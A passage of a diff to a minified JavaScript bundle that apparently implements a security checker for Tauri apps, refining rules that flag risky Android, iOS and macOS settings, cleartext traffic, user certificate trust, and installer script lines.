+1){const written6=text3.charCodeAt(i2),byte=ignoreCase?lower(written6):written6;work.spend(reached5.size),reached5=reach(parts2,[...reached5].flatMap(at2=>parts2[at2]?.
+takes(byte)?[parts2[at2].repeats?at2:at2+1]:[]))}return reached5.has(parts2.length)}function reach(parts2,from){const reached5=new Set,todo=[...from];for(let at2=todo.
+pop();at2!==void 0;at2=todo.pop()){if(reached5.has(at2))continue;reached5.add(at2);const part=parts2[at2];part?.repeats&&todo.push(at2+1),part?.passes!==void 0&&
+todo.push(at2+1,at2+part.passes)}return reached5}var SLASH3=47,notSlash=byte=>byte!==SLASH3;function partsOf13(pattern,folds){const parts2=[];for(let at2=0;at2<
+pattern.length;){const character2=pattern[at2];if(character2==="*"){const end=endOfStars(pattern,at2);parts2.push(...starsOf(pattern,at2,end)),at2=end}else if(character2===
+"["){const set=setAt(pattern,at2+1,folds);if(set===null)return null;parts2.push({takes:byte=>notSlash(byte)&&set.has(byte)}),at2=set.end}else if(character2==="?")
+parts2.push({takes:notSlash}),at2+=1;else{if(character2==="\\"&&(at2+=1),at2===pattern.length)return null;const byte=pattern.charCodeAt(at2);parts2.push({takes:equalTo(
+folds&&character2!=="\\"?lower(byte):byte)}),at2+=1}}return parts2}function equalTo(byte){return other=>other===byte}function endOfStars(pattern,from){let end=from;
 for(;pattern[end]==="*";)end+=1;return end}function starsOf(pattern,start,end){const opens3=start===0||pattern[start-1]==="/",closes=end===pattern.length||pattern[end]===
 "/"||pattern.startsWith("\\/",end);if(end-start<2||!opens3||!closes)return[{takes:notSlash,repeats:!0}];const anything2={takes:()=>!0,repeats:!0};return pattern[end]===
 "/"?[{takes:()=>!1,passes:3},anything2]:[anything2]}function setAt(pattern,from,folds){const negated=pattern[from]==="!"||pattern[from]==="^",tests=[];let at2=negated?
@@ -8260,10 +8322,10 @@ const path=joined(project.location.root,text3),content=path===null?"":project.co
 function namedPaths(project,value){return(value?.kind==="array"?value.items:value===void 0?[]:[value]).flatMap(item=>item.kind==="string"?[namedPath(project,item.
 value,item.at)]:[])}function filesOfPath(project,text3){const{fixed,pattern}=partsOfPath(text3),folder=joined(project.location.root,fixed);return folder===null?
 []:pattern===void 0?project.contents.below(folder):matching(project,pattern,folder)}function partsOfPath(text3){const path=text3.replaceAll("\\","/");if(!path.includes(
-"*"))return{fixed:path,pattern:void 0};const parts=path.split("/"),wild2=parts.findIndex(part=>/[*?[]/.test(part)),pattern=parts.slice(wild2).filter(part=>part!==
-""&&part!==".");return{fixed:parts.slice(0,wild2).join("/"),pattern:pattern.join("/")}}var MOST_STEPS9=4e6,matched=new WeakMap;function matching(project,pattern,folder){
+"*"))return{fixed:path,pattern:void 0};const parts2=path.split("/"),wild2=parts2.findIndex(part=>/[*?[]/.test(part)),pattern=parts2.slice(wild2).filter(part=>part!==
+""&&part!==".");return{fixed:parts2.slice(0,wild2).join("/"),pattern:pattern.join("/")}}var MOST_STEPS9=4e6,matched=new WeakMap;function matching(project,pattern,folder){
 const{work,known:known13}=matched.get(project)??{work:new Work(MOST_STEPS9),known:new Map};matched.set(project,{work,known:known13});const name=JSON.stringify([
-folder,pattern]),before2=known13.get(name);if(before2!==void 0)return before2;const below9=project.contents.below(folder),from=folder===""?0:folder.length+1,glob=wildmatch(
+folder,pattern]),before3=known13.get(name);if(before3!==void 0)return before3;const below9=project.contents.below(folder),from=folder===""?0:folder.length+1,glob=wildmatch(
 bytesOf(pattern));try{const found12=below9.filter(({path})=>isMatch(glob,bytesOf(path.slice(from)),!1,work));return known13.set(name,found12),found12}catch(error){
 if(!(error instanceof OutOfWork))throw error;return below9}}var ENTITLEMENTS=/(?:^|\/)(?:[^/]*entitlements[^/]*\.(?:plist|xml)|[^/]+\.entitlements)$/i,INFO=/(?:^|\/)Info(?:\.ios)?\.plist$/,
 MANIFEST3=/(?:^|\/)AndroidManifest\.xml$/,ANDROID_XML=/(?:^|\/)gen\/android\/(?:.*\/)?res\/xml(?:-[^/]+)?\/[^/]+\.xml$/,ELSEWHERE3=/(?:^|\/)(?:node_modules|\.gradle|src\/(?:androidTest|test))\//,
@@ -8343,8 +8405,8 @@ scripts2[0]??page)}}function scriptOf2(page,{name,attributes:attributes2}){const
 folderOf(page),source.replace(/^\/+/,""));return path===null?[]:[path]}function codeOfFile(file2){return file2===void 0?"":codeOf5(file2.text)}function codeOf5(text3){
 const tokens=jsTokens(text3);return typeof tokens=="number"?text3:tokens.map(token2=>`${token2.kind} ${token2.text}`).join(`
 `)}var KEY=bundleKey("externalBin");function sidecarsOn(project,platform){return stringsOf(valueOfKey(project,platform,KEY)?.value)}function programOf4(program2,root){
-const parts=program2.replaceAll("\\","/").split("/").filter(part=>part!==""&&part!=="."),up=parts.findIndex(part=>part!==".."),folders=root===""?[]:root.split("\
-/");return program2.startsWith("/")?program2:up<=0||up>folders.length?parts.join("/"):`/${[...folders.slice(0,folders.length-up),...parts.slice(up)].join("/")}`}
+const parts2=program2.replaceAll("\\","/").split("/").filter(part=>part!==""&&part!=="."),up=parts2.findIndex(part=>part!==".."),folders=root===""?[]:root.split(
+"/");return program2.startsWith("/")?program2:up<=0||up>folders.length?parts2.join("/"):`/${[...folders.slice(0,folders.length-up),...parts2.slice(up)].join("/")}`}
 function filesOfSidecar({location,contents},program2){const path=joined(location.root,program2);if(path===null)return[];const name=`${baseName(path)}-`;return contents.
 below(folderOf(path)).filter(item=>folderOf(item.path)===folderOf(path)&&baseName(item.path).startsWith(name))}var UPDATER="tauri-plugin-updater";function updaterOf(project,platform){
 const section=project.major===1?"tauri":"plugins",settings3=pick(project.config(platform),section,"updater");if(settings3?.kind!=="object")return;const found12={
@@ -8356,16 +8418,16 @@ locked.assumed||!isBefore(locked.version,since)}function windowsOf2(project,plat
 project.config(platform),section),"windows")).map((value,index)=>({value,label:asString(member(value,"label"))??"main",path:`${section}.windows[${index}]`}))}function perWindow({
 keys,grants,...setting44}){return{...setting44,covers:["app","tauri"].flatMap(section=>keys.map(key3=>`${section}.windows.*.${key3}`)),inConfiguration(project,platform){
 return windowsOf2(project,platform).flatMap(window=>grants(window,platform,project))}}}var PLUGINS2=[{part:"fs plugin",crate:"tauri-plugin-fs"},{part:"http plug\
-in",crate:"tauri-plugin-http"}];function partsOf13(project,platform){const parts=[{part:"app",at:(0,import_shared_acegos.topOf)(project.location.config)}],updater=updaterOf(
-project,platform);updater?.builtInAt!==void 0&&parts.push({part:updater.part,at:updater.builtInAt});const hook=isolationApp(project,platform);hook!==void 0&&parts.
-push({part:"isolation hook",at:hook.at});for(const{label,value}of windowsOf2(project,platform))parts.push({part:`window ${label}`,at:value.at});for(const{value,
-at:at2}of sidecarsOn(project,platform))parts.push({part:`sidecar ${programOf4(value,project.location.root)}`,at:at2});for(const file2 of otherPages(project,[]))
-parts.push({part:`page ${baseName(file2.path)}`,at:(0,import_shared_acegos.topOf)(file2.path)});if(project.major===1)return parts;parts.push({part:"app of Tauri\
- 2",at:(0,import_shared_acegos.topOf)(project.location.config)});for(const{label,value}of windowsOf2(project,platform))parts.push({part:`window of Tauri 2 ${label}`,
-at:value.at});for(const{part,crate:crate2}of PLUGINS2)dependsOn(project,crate2,platform)&&parts.push({part,at:placeOfCrate(project,crate2,platform)});return parts}
+in",crate:"tauri-plugin-http"}];function partsOf14(project,platform){const parts2=[{part:"app",at:(0,import_shared_acegos.topOf)(project.location.config)}],updater=updaterOf(
+project,platform);updater?.builtInAt!==void 0&&parts2.push({part:updater.part,at:updater.builtInAt});const hook=isolationApp(project,platform);hook!==void 0&&parts2.
+push({part:"isolation hook",at:hook.at});for(const{label,value}of windowsOf2(project,platform))parts2.push({part:`window ${label}`,at:value.at});for(const{value,
+at:at2}of sidecarsOn(project,platform))parts2.push({part:`sidecar ${programOf4(value,project.location.root)}`,at:at2});for(const file2 of otherPages(project,[]))
+parts2.push({part:`page ${baseName(file2.path)}`,at:(0,import_shared_acegos.topOf)(file2.path)});if(project.major===1)return parts2;parts2.push({part:"app of Ta\
+uri 2",at:(0,import_shared_acegos.topOf)(project.location.config)});for(const{label,value}of windowsOf2(project,platform))parts2.push({part:`window of Tauri 2 ${label}`,
+at:value.at});for(const{part,crate:crate2}of PLUGINS2)dependsOn(project,crate2,platform)&&parts2.push({part,at:placeOfCrate(project,crate2,platform)});return parts2}
 var CONFIGURES="configure_remote_access";function remoteAccess2(project){if(project.major!==1)return[];const calls=mentionsOf(project,[CONFIGURES]).flatMap(mention=>{
 const only2=runsWhere(project,mention);if(only2===void 0||useOf(mention).kind==="declared")return[];const{file:file2,index,isInMacro:isInMacro2,at:at2}=mention,
-parts=statementsAbout(file2,index).map(part=>sliceOf(project,file2.rust.file.path,part)),rests=isInMacro2?allCodeOf(project):(0,import_shared_acegos.wordsOf)(parts),
+parts2=statementsAbout(file2,index).map(part=>sliceOf(project,file2.rust.file.path,part)),rests=isInMacro2?allCodeOf(project):(0,import_shared_acegos.wordsOf)(parts2),
 isShipped2=only2===null||only2.kind==="reach";return[{...gap2(at2,(0,import_shared_acegos.wordsOf)(rests,only2)),blocking:isShipped2}]}),pasted=pastedNames(project,
 [CONFIGURES]).map(({at:at2})=>gap2(at2,allCodeOf(project)));return[...calls,...pasted]}function gap2(at2,rests){const message=`${(0,import_shared_acegpst.code)(
 CONFIGURES)} lets a site call what the app's own pages may call, and which site, in which windows, isn't followed. Write it in the configuration, below ${(0,import_shared_acegpst.code)(
@@ -8412,21 +8474,23 @@ return value!==void 0&&(/^true$/i.test(value.trim())||/^@|\$\{/.test(value.trim(
 project).flatMap(file2=>{const xml=parseXml(file2),grants=xml.ok?[...trafficIn(xml.root),...pathsIn4(xml.root)]:[];return names4===void 0||names4.has(baseName(file2.
 path))?grants:grants.map(ofNobody)})}function namesOf2(project){const roots=manifestFiles(project).flatMap(file2=>{const xml=parseXml(file2);return xml.ok?[xml.
 root]:[]}),names4=roots.flatMap(namesIn7);if(!(roots.length<Math.max(1,manifestFiles(project).length)||names4.some(name=>name.includes("${"))))return new Set(names4.
-map(name=>`${name.replace(/^@xml\//,"")}.xml`))}function namesIn7({attributes:attributes2,children}){return[...["networkSecurityConfig","resource"].flatMap(name=>attributes2.
+map(name=>`${baseName(name.trim())}.xml`))}function namesIn7({attributes:attributes2,children}){return[...["networkSecurityConfig","resource"].flatMap(name=>attributes2.
 get(`android:${name}`)??[]),...children.flatMap(namesIn7)]}function ofNobody({topic,granted:granted2}){const extent=`${granted2.extent}: in a file that nothing \
 names`;return{topic,granted:{...granted2,extent,isWhole:!1,weighs:"low"}}}function trafficIn(root){if(root.name!=="network-security-config")return[];const walk2=element=>{
 if(element.name==="debug-overrides")return[];const domains=element.children.filter(({name})=>name==="domain").map(({text:text3})=>text3.toLowerCase()),where=domains.
 length===0?"any server":domains.sort().join(", "),graver=domains.length>0&&domains.every(domain=>/^(?:localhost|127\.0\.0\.1|10\.0\.2\.2|tauri\.localhost)$/.test(
 domain))?"low":domains.length===0?"high":"medium",found12=[];mayBeTrue2(element.attributes.get("cleartextTrafficPermitted"))&&found12.push(grant("traffic",element,
 {extent:domains.length===0?"cleartext":`cleartext: ${where}`,isWhole:domains.length===0,subject:"Anyone on the network path",action:`read and change what the ap\
-p exchanges with ${(0,import_shared_acegpst.code)(short(where))}`,written:'cleartextTrafficPermitted="true"',weighs:graver}));for(const anchor of anchorsOf(element))
-anchor.attributes.get("src")==="user"&&found12.push(grant("traffic",anchor,{extent:`certificates of people for ${where}`,subject:"Whoever gets a person to add a\
- certificate",action:`stand in for ${domains.length===0?where:(0,import_shared_acegpst.code)(short(where))}`,written:'<certificates src="user"/>',weighs:graver}));
-return[...found12,...element.children.flatMap(walk2)]};return walk2(root)}function anchorsOf({children}){return children.filter(({name})=>name==="trust-anchors").
-flatMap(each=>each.children)}var MADE_TO_SHARE=/^(?:external-|cache-)/;function pathsIn4(root){return root.name!=="paths"?[]:root.children.map(element=>{const path=element.
-attributes.get("path")??"",isWhole3=/^[./]*$/.test(path)&&!MADE_TO_SHARE.test(element.name),isRoot=element.name==="root-path";return grant(isWhole3||isRoot?"pri\
-vilege":"feature",element,{extent:`shared ${element.name} ${path}`,subject:"Apps to which the app gives an address",action:`read files below ${(0,import_shared_acegpst.code)(
-`${element.name} ${path}`)}`,written:`<${element.name} path="${short(path)}"/>`,weighs:isRoot?"high":isWhole3?"medium":"low"})})}var POWERFUL2=/^(?:QUERY_ALL_PACKAGES|REQUEST_INSTALL_PACKAGES|INSTALL_PACKAGES|DELETE_PACKAGES|MANAGE_EXTERNAL_STORAGE|SYSTEM_ALERT_WINDOW|BIND_ACCESSIBILITY_SERVICE|BIND_DEVICE_ADMIN|BIND_NOTIFICATION_LISTENER_SERVICE|BIND_VPN_SERVICE|BIND_INPUT_METHOD|(?:READ|SEND|RECEIVE|WRITE)_(?:SMS|MMS|CALL_LOG)|READ_CONTACTS|WRITE_CONTACTS|PROCESS_OUTGOING_CALLS|ACCESS_BACKGROUND_LOCATION|WRITE_SETTINGS|WRITE_SECURE_SETTINGS|PACKAGE_USAGE_STATS|READ_LOGS|DUMP|CAPTURE_\w+|MANAGE_\w+)$/,
+p exchanges with ${(0,import_shared_acegpst.code)(short(where))}`,written:'cleartextTrafficPermitted="true"',weighs:graver}));for(const anchor of anchorsOf(element)){
+const from=anchor.attributes.get("src")?.trim()??"";if(from==="system")continue;const[whose,subject]=from==="user"?["of people","Whoever gets a person to add a \
+certificate"]:[`in ${from}`,`Whoever signs for the certificates in ${(0,import_shared_acegpst.code)(short(from))}`];found12.push(grant("traffic",anchor,{extent:`\
+certificates ${whose} for ${where}`,subject,action:`stand in for ${domains.length===0?where:(0,import_shared_acegpst.code)(short(where))}`,written:`<certificate\
+s src="${short(from)}"/>`,weighs:graver}))}return[...found12,...element.children.flatMap(walk2)]};return walk2(root)}function anchorsOf({children}){return children.
+filter(({name})=>name==="trust-anchors").flatMap(each=>each.children)}var MADE_TO_SHARE=/^(?:external-|cache-)/;function pathsIn4(root){return root.name!=="path\
+s"?[]:root.children.map(element=>{const path=element.attributes.get("path")??"",isWhole3=/^[./]*$/.test(path)&&!MADE_TO_SHARE.test(element.name),isRoot=element.
+name==="root-path";return grant(isWhole3||isRoot?"privilege":"feature",element,{extent:`shared ${element.name} ${path}`,subject:"Apps to which the app gives an \
+address",action:`read files below ${(0,import_shared_acegpst.code)(`${element.name} ${path}`)}`,written:`<${element.name} path="${short(path)}"/>`,weighs:isRoot?
+"high":isWhole3?"medium":"low"})})}var POWERFUL2=/^(?:QUERY_ALL_PACKAGES|REQUEST_INSTALL_PACKAGES|INSTALL_PACKAGES|DELETE_PACKAGES|MANAGE_EXTERNAL_STORAGE|SYSTEM_ALERT_WINDOW|BIND_ACCESSIBILITY_SERVICE|BIND_DEVICE_ADMIN|BIND_NOTIFICATION_LISTENER_SERVICE|BIND_VPN_SERVICE|BIND_INPUT_METHOD|(?:READ|SEND|RECEIVE|WRITE)_(?:SMS|MMS|CALL_LOG)|READ_CONTACTS|WRITE_CONTACTS|PROCESS_OUTGOING_CALLS|ACCESS_BACKGROUND_LOCATION|WRITE_SETTINGS|WRITE_SECURE_SETTINGS|PACKAGE_USAGE_STATS|READ_LOGS|DUMP|CAPTURE_\w+|MANAGE_\w+)$/,
 COMPONENTS=new Set(["activity","activity-alias","service","receiver","provider"]);function manifested(project,platform){return platform!=="android"?[]:[...manifestFiles(
 project).flatMap(file2=>{const xml=parseXml(file2),grants=xml.ok?[...ofManifest(xml.root),...permissions(xml.root),...handedOut(xml.root),...applications(xml.root)]:
 [];return isOfDebug(file2.path)?grants.map(ofDebug):grants}),...resourcesAllow(project)]}function ofDebug({topic,granted:granted2}){const extent=`${granted2.extent}\
@@ -8501,8 +8565,8 @@ rophone",Motion:"motion sensors",NetworkVolumes:"network drives",PhotoLibrary:"t
 removable drives",ScreenCapture:"what the screen shows",SpeechRecognition:"speech recognition",SystemAdministration:"the administration of the system",UserTracking:"\
 tracking across apps"};function askedFor(key3){const[,name]=/^NS(\w+)UsageDescription(?:\.|$)/.exec(key3)??[];if(name!==void 0)return`ask people for ${Object.hasOwn(
 ASKED_FOR,name)?ASKED_FOR[name]:"one more permission"}`}var ON_THE_WAY="Anyone on the network path",APP3="The app",ON=String.raw`=\s*[-+]?0*[YyTt1-9]`,EXCEPTION=String.
-raw`^NSAppTransportSecurity\.NSExceptionDomains\..*\.NS(?:Temporary|ThirdParty)?Exception`,ROWS2=[{key:new RegExp(`^NSAppTransportSecurity\\.NSAllowsArbitraryLoa\
-ds(?:InWebContent|ForMedia)?${ON}`),topic:"traffic",subject:ON_THE_WAY,action:"read and change what the app exchanges with any server",weighs:"high"},{key:new RegExp(
+raw`^NSAppTransportSecurity\.NSExceptionDomains\..*\.NS(?:Temporary)?(?:ThirdParty)?Exception`,ROWS2=[{key:new RegExp(`^NSAppTransportSecurity\\.NSAllowsArbitrar\
+yLoads(?:InWebContent|ForMedia)?${ON}`),topic:"traffic",subject:ON_THE_WAY,action:"read and change what the app exchanges with any server",weighs:"high"},{key:new RegExp(
 `^NSAppTransportSecurity\\.NSAllowsLocalNetworking${ON}`),topic:"traffic",subject:ON_THE_WAY,action:"read and change what the app exchanges in the local network",
 weighs:"low"},{key:/^NSAppTransportSecurity\.NSExceptionDomains\.(?:localhost|127\.0\.0\.1)\.NS\w+=/,topic:"traffic",subject:"Programs of this machine",action:"\
 answer the app without TLS",weighs:"low"},{key:new RegExp(`${EXCEPTION}(?:AllowsInsecureHTTPLoads${ON}|RequiresForwardSecrecy(?!${ON})|MinimumTLSVersion=(?!TLSv\
@@ -8514,47 +8578,68 @@ hrough an updater that isn't Tauri's",weighs:"critical"},{key:/^CFBundleExecutab
 start another program than the one that is built",weighs:"medium"},{key:new RegExp(`^(?:NSAppleScriptEnabled${ON}|OSAScriptingDefinition=)`),topic:"privilege",subject:"\
 Other apps",action:"drive the app",weighs:"medium"},{key:/^LSEnvironment\./,topic:"privilege",subject:APP3,action:"start with variables that change what it load\
 s",weighs:"high"},{key:new RegExp(`^(?:UIFileSharingEnabled|LSSupportsOpeningDocumentsInPlace|UISupportsDocumentBrowser)${ON}`),topic:"privilege",subject:"Other\
- apps and machines",action:"read and change the app's documents",weighs:"medium"},{key:/^CFBundleURLTypes\[\]\.CFBundleURLSchemes\[\]=/,topic:"link",subject:"An\
-y website",action:"open the app with a link",weighs:"medium"},{key:/^CFBundleDocumentTypes\[\]\.(?:CFBundleTypeExtensions|CFBundleTypeMIMETypes|LSItemContentTypes)\[\]=/,
+ apps and machines",action:"read and change the app's documents",weighs:"medium"},{key:/^CFBundleURLTypes(?:\[\])?\.CFBundleURLSchemes(?:\[\])?=/,topic:"link",subject:"\
+Any website",action:"open the app with a link",weighs:"medium"},{key:/^CFBundleDocumentTypes(?:\[\])?\.(?:CFBundleType(?:Extensions|MIMETypes|OSTypes)|LSItemContentTypes)(?:\[\])?=/,
 topic:"document",subject:"Whoever sends a person a file",action:"have the app opened with it",weighs:"medium"},{key:/^UT(?:Exported|Imported)TypeDeclarations\[\]\.UTTypeIdentifier=/,
 topic:"document",subject:APP3,action:"declare a type of files",weighs:"low"},{key:/^NS\w+UsageDescription=|^NS\w+UsageDescription\./,topic:"feature",subject:APP3,
 action:"ask people for one more permission",weighs:"low"},{key:new RegExp(`^(?:LSUIElement|LSBackgroundOnly)${ON}`),topic:"feature",subject:APP3,action:"run wit\
 hout being seen in the Dock",weighs:"low"},{key:/./,topic:"feature",subject:APP3,action:"use one more service of the system",weighs:"low"}],PLAIN7=new RegExp([String.
 raw`^CFBundle(?:(?:Display|Spoken)?Name|(?:Short)?Version|InfoDictionary|PackageType|Signature|Icon|Development|Localizations|AllowMixed|SupportedPlatforms|GetInfo|DocumentTypes|URLTypes|Executable|Identifier=\$)`,
-"^LS(?:MinimumSystem|ApplicationCategory|Requires|FileQuarantine)|^(?:MinimumOS|DT[A-Z]|BuildMachine|CSResources|CADisable|GCSupport)","^NS(?:HumanReadable|High\
-Resolution|Supports|AppTransportSecurity|PrincipalClass=NSApplication$)|^ITS(?:App|Encryption)","^UI(?:Launch|Require|Support(?:ed|sTrue)|StatusBar|ViewControll\
-er|(?:User)?Interface|AppFonts|Prerendered|Design|Device)","^UIApplication(?:SceneManifest|SupportsIndirectInput)|^UT(?:Exported|Imported)","=(?:false|no|0)?$"].
-join("|"));function informed(project,platform){return infoFiles(project,platform).flatMap(({file:file2})=>{const parsed10=parsePlist(file2);return(parsed10.ok?leavesOf(
-parsed10.value):[]).flatMap(({key:key3,value,at:at2})=>{const row=told(`${key3}=${value}`);if(row===void 0)return[];const text3=/UsageDescription/.test(key3)?key3:
-`${key3}: ${value}`;return[{topic:row.topic,granted:{extent:text3.toLowerCase(),subject:row.subject,action:`${askedFor(key3)??row.action}, by ${(0,import_shared_acegpst.code)(
-short(text3))}`,example:`plutil -p Info.plist # ${short(key3)}`,written:short(text3),weighs:row.weighs,at:at2}}]})})}function leavesOf(value,key3="",at2=value.at){
-return value.kind==="dict"?value.entries.flatMap(entry=>leavesOf(entry.value,key3===""?entry.key:`${key3}.${entry.key}`,entry.at)):value.kind==="array"?value.items.
-flatMap(item=>leavesOf(item,`${key3}[]`,item.at)):[{key:key3,value:String(value.value),at:at2}]}function told(written6){const row=rowOf(ROWS2,written6);return row===
-ROWS2.at(-1)&&PLAIN7.test(written6)?void 0:row}function ofNativeFiles(setting44){const{topic,...rest2}=setting44;return{covers:[],platforms:["macOS","iOS","andr\
-oid"],...rest2,inConfiguration:(project,platform)=>[...entitled(project,platform),...informed(project,platform),...manifested(project,platform)].flatMap(each=>each.
-topic===topic?[each.granted]:[])}}var component_exported_default=ofNativeFiles({name:"component-exported",rule:"native/component-exported",topic:"component"}),setting5={
-name:"database-opened",rule:"config/database-opened",covers:["plugins.sql.preload.**"],inConfiguration:(project,platform)=>stringsOf(pick(project.config(platform),
-"plugins","sql","preload")).map(({value,at:at2})=>{const hasPassword=/^\w+:\/\/[^/@]*:[^/@]+@/.test(value),shown4=value.replace(/^(\w+:\/\/[^/@:]*):[^/@]+@/,"$1\
-:\u2026@");return{extent:value,subject:"The app",action:hasPassword?`open the database ${(0,import_shared_acegpst.code)(shown4)}, with a password that every cop\
-y of the app holds`:`open the database ${(0,import_shared_acegpst.code)(shown4)} when it starts`,example:`Database.load(${JSON.stringify(short(shown4))})`,written:`\
-plugins.sql.preload: [${JSON.stringify(short(shown4))}]`,weighs:hasPassword?"high":/^sqlite:/.test(value)?"low":"medium",at:at2}})},database_opened_default=setting5,
-MOST_LINES4=2e3,LONGEST_LINE4=4e3;function tellingLines2(file2,layout,telling3){const found12=new Map;for(const{text:text3,first,last}of logicalLines2(file2.text,
-layout))if(!(layout.comments.test(text3)||text3.length<=LONGEST_LINE4&&!telling3.test(text3))){if(found12.size>=MOST_LINES4&&!found12.has(text3))return{lines:[...found12.
-values()],isCut:!0};found12.set(text3,{text:text3,at:{...(0,import_shared_acegos.topOf)(file2.path),line:first,endLine:last}})}return{lines:[...found12.values()],
-isCut:!1}}function logicalLines2(written6,layout){const found12=[];let parts=[];for(const[index,raw]of withoutComments(inLines(written6,layout),layout).split(`
-`).entries()){const text3=raw.replace(/\s+/g," ").trim(),goesOn2=continues(text3,parts.length===0,layout);if(parts.push(goesOn2&&layout.syntax!=="xml"?text3.slice(
-0,-1):text3),goesOn2)continue;const whole2=parts.join(" ").replace(/ +/g," ").trim();whole2!==""&&found12.push({text:whole2,first:index+2-parts.length,last:index+
-1}),parts=[]}const rest2=parts.join(" ").trim();return rest2===""?found12:[...found12,{text:rest2,first:1,last:1}]}function inLines(text3,{syntax}){return syntax===
-"shell"?text3:text3.replace(/\r\n?/g,`
+"^LS(?:MinimumSystem|ApplicationCategory|Requires|FileQuarantineEnabled=)|^(?:MinimumOS|DT[A-Z]|BuildMachine|CSResources|CADisable|GCSupport)","^NS(?:HumanReada\
+ble|HighResolution|Supports|PrincipalClass=NSApplication$)|^ITS(?:App|Encryption)","^UI(?:Launch|Require|Support(?:edInterface|sTrue)|StatusBar|ViewController|(\
+?:User)?Interface|AppFonts|Prerendered|Design|Device)","^UIApplication(?:SceneManifest|SupportsIndirectInput)|^UT(?:Exported|Imported)","^NSAppTransportSecurity\
+\\.(?:NSPinnedDomains|NSExceptionDomains\\..*\\.NS(?:Requires|(?:Temporary)?(?:ThirdParty)?Exception))","^[^=]*=(?:false|no|0)?$"].join("|"));function informed(project,platform){
+return infoFiles(project,platform).flatMap(({file:file2})=>{const parsed10=parsePlist(file2);return(parsed10.ok?leavesOf(parsed10.value):[]).flatMap(({key:key3,
+value,at:at2})=>{const row=told(`${key3}=${value}`);if(row===void 0)return[];const text3=/UsageDescription/.test(key3)?key3:`${key3}: ${value}`;return[{topic:row.
+topic,granted:{extent:text3.toLowerCase(),subject:row.subject,action:`${askedFor(key3)??row.action}, by ${(0,import_shared_acegpst.code)(short(text3))}`,example:`\
+plutil -p Info.plist # ${short(key3)}`,written:short(text3),weighs:row.weighs,at:at2}}]})})}function leavesOf(value,key3="",at2=value.at){return value.kind==="d\
+ict"?value.entries.flatMap(entry=>leavesOf(entry.value,key3===""?entry.key:`${key3}.${entry.key}`,entry.at)):value.kind==="array"?value.items.flatMap(item=>leavesOf(
+item,`${key3}[]`,item.at)):[{key:key3,value:String(value.value),at:at2}]}function told(written6){const row=rowOf(ROWS2,written6);return row===ROWS2.at(-1)&&PLAIN7.
+test(written6)?void 0:row}function ofNativeFiles(setting44){const{topic,...rest2}=setting44;return{covers:[],platforms:["macOS","iOS","android"],...rest2,inConfiguration:(project,platform)=>[
+...entitled(project,platform),...informed(project,platform),...manifested(project,platform)].flatMap(each=>each.topic===topic?[each.granted]:[])}}var component_exported_default=ofNativeFiles(
+{name:"component-exported",rule:"native/component-exported",topic:"component"}),setting5={name:"database-opened",rule:"config/database-opened",covers:["plugins.\
+sql.preload.**"],inConfiguration:(project,platform)=>stringsOf(pick(project.config(platform),"plugins","sql","preload")).map(({value,at:at2})=>{const hasPassword=/^\w+:\/\/[^/@]*:[^/@]+@/.
+test(value),shown4=value.replace(/^(\w+:\/\/[^/@:]*):[^/@]+@/,"$1:\u2026@");return{extent:value,subject:"The app",action:hasPassword?`open the database ${(0,import_shared_acegpst.code)(
+shown4)}, with a password that every copy of the app holds`:`open the database ${(0,import_shared_acegpst.code)(shown4)} when it starts`,example:`Database.load(${JSON.
+stringify(short(shown4))})`,written:`plugins.sql.preload: [${JSON.stringify(short(shown4))}]`,weighs:hasPassword?"high":/^sqlite:/.test(value)?"low":"medium",at:at2}})},
+database_opened_default=setting5,ENDING=String.raw`(?: >\s?/dev/null| 2>\s?/dev/null| &>\s?/dev/null| 2>&1| \|\| (?:true|:|exit \d+))*(?: ?;;| ?;)?`,CLOSED=String.
+raw`(?:[^"'\\]|\\[^]|"(?:[^"\\]|\\[^])*"|'[^']*')*`,SHELL7=["#! ?/(?:usr/)?bin/(?:env )?(?:ba|da)?sh(?: -[a-z]+)*",String.raw`(?:then|else|fi|do|done|esac|\{|\}|;;|true|:|set [-+][a-z]+(?: [a-z]+)?|(?:exit|return)(?: \d+)?)(?: ?;;| ?;)?`,
+`(?:echo|printf(?! ["'\\\\]*[-{]))(?: [^$\`<>|&;()]*)?${ENDING}`,`(?:update-desktop-database|update-mime-database|gtk4?-update-icon-cache)(?: [-\\w/.=]+)*${ENDING}`,
+String.raw`case "?\$\{?\w+\}?"? in`,String.raw`[\w|*" -]+\)(?: ;;)?`,String.raw`(?:el)?if \[\[? (?![^]*\$\{\w+:?=)[^\`();|&<>]* \]\]?(?: ?; then)?`,`(?:el)?if (\
+?:! )?(?:command -v|which|type|hash) [-\\w]+${ENDING}(?: ?;? then)?`],OWN5=String.raw`"\$INSTDIR(?:\\(?!\.\.)[\w .-]+)+"`,VALUE=String.raw`(?:-?[\d.]*|\{[\da-f-]+\}|\$R?\d)`,
+BARE2=`(?:"${VALUE}"|'${VALUE}'|${VALUE})`,OPERAND="(?:\"[^\"]*\"|'[^']*'|`[^`]*`|[^\\s\"'`]+)",TEST=String.raw`(?:\$\{(?!Cmd\})\w+\}(?: ${OPERAND})?|${OPERAND} (?:S?[!=]=|<>|[<>]=?|=|&) ${OPERAND})`,
+NSIS=["(?:DetailPrint|Abort|MessageBox|Name|Caption|BrandingText|VI\\w+|!echo|!warning|!verbose)(?: [^]*)?",String.raw`(?:License)?LangString \w+ \$\{\w+\} ("[^"]*"|'[^']*'|\`[^\`]*\`)`,
+"!(?:ifn?def|ifmacron?def|if|else(?:if)?|endif|macro|macroend|undef)(?: [^]*)?",String.raw`!define(?: /(?:redef|ifndef|math))* \w+(?: ${BARE2})*`,String.raw`!insertmacro MUI_(?:UN)?(?:PAGE_\w+|LANGUAGE "\w+"|RESERVEFILE\w*)`,
+String.raw`\$\{(?:(?:(?:And|Or)?(?:If|Unless)|ElseIf|ElseUnless)(?:Not)?|Do|While)\} ${TEST}`,String.raw`\$\{(?:Else|EndIf|EndUnless|Do|Loop|Break|Continue|Exit\w+|Next|Default|EndSelect|EndSwitch|EndWhile)\}`,
+String.raw`\$\{(?:Select|Switch|Case|CaseElse)\}(?: ${OPERAND})*`,String.raw`\$\{For\} \$\w+ ${BARE2} ${BARE2}`,String.raw`(?:Section|SectionEnd|SectionGroup|SectionGroupEnd|Function|FunctionEnd|Var|Return|Nop|Sleep|Goto|ClearErrors|SetErrors|If(?:Errors|Silent|FileExists|Abort)|StrLen|StrCmpS?|Int(?:Op|CmpU?)|Pop|Exch|SetDetails\w+|SetAutoClose)(?: [^]*)?`,
